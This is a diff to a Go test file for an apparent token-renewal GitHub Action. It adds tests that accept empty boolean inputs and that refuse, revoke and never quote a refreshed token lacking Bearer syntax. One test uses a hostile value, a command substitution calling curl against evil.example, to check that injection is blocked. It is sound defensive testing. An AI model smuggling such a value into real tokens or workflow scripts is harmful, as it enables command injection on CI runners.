@@ -519,6 +519,22 @@ func TestRenewRefusesMintOnlyInputs(t *testing.T) {
 			t.Fatalf("run() = %v with every default; want nil", r.err)
 		}
 	})
+
+	// An empty boolean means its default on the mint path (parseBool); a
+	// reusable workflow that passes an unset input of its own gives one.
+	t.Run("empty booleans accepted", func(t *testing.T) {
+		t.Parallel()
+		w := newRenewWorld(t, 45*day, "repo")
+		in := w.inputs("repo")
+		for _, d := range mintOnlyInputs {
+			if d.boolean {
+				in[inputEnv(d.name)] = ""
+			}
+		}
+		if r := runStep(t, w.world, in, nil); r.err != nil {
+			t.Fatalf("run() = %v with every boolean empty; want nil", r.err)
+		}
+	})
 }
 
 // inPlaceFaults makes Graph extend the token in place: debug_token says
@@ -600,6 +616,38 @@ func TestRenewRateLimitedWrite(t *testing.T) {
 	}
 	if r.outputs[outRenewed] != "true" {
 		t.Errorf("outputs = %v; want renewed true", r.outputs)
+	}
+	checkRenewRun(t, w, in, r)
+}
+
+// TestRenewRefusesNonBearerToken: a renewal writes the refreshed token into
+// a GitHub secret, which workflows put in scripts too
+// (run: curl -H "Authorization: Bearer ${{ secrets.META_TOKEN }}"), where
+// the runner substitutes it before the shell reads it. A refresh that
+// answers a token without a Bearer token's syntax (RFC 6750 b64token) is
+// refused before the write: the secret keeps the old token, and the new
+// one is revoked.
+func TestRenewRefusesNonBearerToken(t *testing.T) {
+	t.Parallel()
+	const hostile = "EAA$(curl${IFS}evil.example)"
+	w := newRenewWorld(t, 10*day, "repo")
+	in := w.inputs("repo")
+	w.srv.MintNextAs(hostile)
+	r := runStep(t, w.world, in, nil)
+	if r.err == nil || !strings.Contains(r.err.Error(), "Bearer token") {
+		t.Fatalf("run() = %v; want the refreshed token refused\nstdout:\n%s", r.err, r.stdout)
+	}
+	if got := w.stored(t).Value; got != w.old {
+		t.Errorf("the secret holds %q; want the old token kept", got)
+	}
+	if st, ok := w.srv.Token(hostile); !ok || !st.Revoked {
+		t.Errorf("refreshed token = %+v, %v; want it revoked", st, ok)
+	}
+	if strings.Contains(r.err.Error(), hostile) {
+		t.Errorf("run() = %q; want the token not quoted", r.err)
+	}
+	if len(r.outputs) != 0 {
+		t.Errorf("outputs = %v; want none", keys(r.outputs))
 	}
 	checkRenewRun(t, w, in, r)
 }
